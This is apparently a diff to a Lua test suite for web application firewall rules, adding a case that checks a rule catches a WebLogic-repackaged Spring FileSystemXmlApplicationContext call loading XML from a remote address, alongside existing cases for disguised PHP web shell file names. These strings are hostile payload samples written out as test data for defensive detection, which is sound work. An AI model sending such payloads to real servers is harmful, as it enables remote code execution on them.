@@ -92,4 +92,10 @@ describe("edge.waf.rules hundred-and-sixty-seventh round on", function()
         caught_by(133140, { "1.php.7z", "up/shell.php.7z" })
         clean({ "$mode = 'system';", "$theme='system'; $x(1)", "backup.7z" })
     end)
+
+    it("Java: Spring's XML application context under any package prefix (WebLogic repackages it)", function()
+        caught_by(144200, { 'com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('
+            .. '"http://203.0.113.77/poc.xml")' })
+        clean({ "FileSystemXmlApplicationContext is deprecated in our codebase" })
+    end)
 end)
